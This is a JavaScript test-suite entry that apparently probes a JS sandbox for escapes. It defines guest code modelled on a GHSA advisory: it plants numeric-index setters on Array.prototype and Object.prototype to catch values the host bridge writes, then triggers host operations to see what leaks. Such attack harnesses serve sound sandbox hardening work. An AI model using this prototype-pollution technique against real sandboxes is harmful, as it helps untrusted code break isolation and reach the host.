import { attack } from '../attack.js';

export const numberedSetters = attack({
  class: 'prototypes',
  name: 'setters for numbers on Array.prototype and Object.prototype',
  modelled_on: "GHSA-9qj6-qjgg-37qq: a list of the bridge's own calls the guest's setter",
  attempt: `
    for (let index = 0; index < 12; index += 1) for (const p of [Array.prototype, Object.prototype]) {
      Object.defineProperty(p, index, { configurable: true, get() { probe(this, 'this'); return undefined }, set(value) { probe(value, 'saved'); probe(value?.arr, 'saved.arr'); probe(this, 'this'); try { const held = value.arr ?? value; held.f = globalThis.Buffer?.prototype.inspect; probe(held.f, 'written') } catch (e) { probe(e, 'e') } } });
    }
    const list = []; list.f = 1;
    for (const act of [() => new globalThis.Buffer(list), () => globalThis.Buffer.from(list), () => console.log(list, 1, 2, 3), () => helpers.logger.info([[]], {}), () => structuredClone([[], {}]), () => setTimeout(() => {}, 1, 2, 3), () => new Function('a', 'b'), () => Object.entries(input), () => granted.list.concat([1])]) { try { probe(act(), 'answer') } catch (e) { probe(e, 'error') } }`,
});
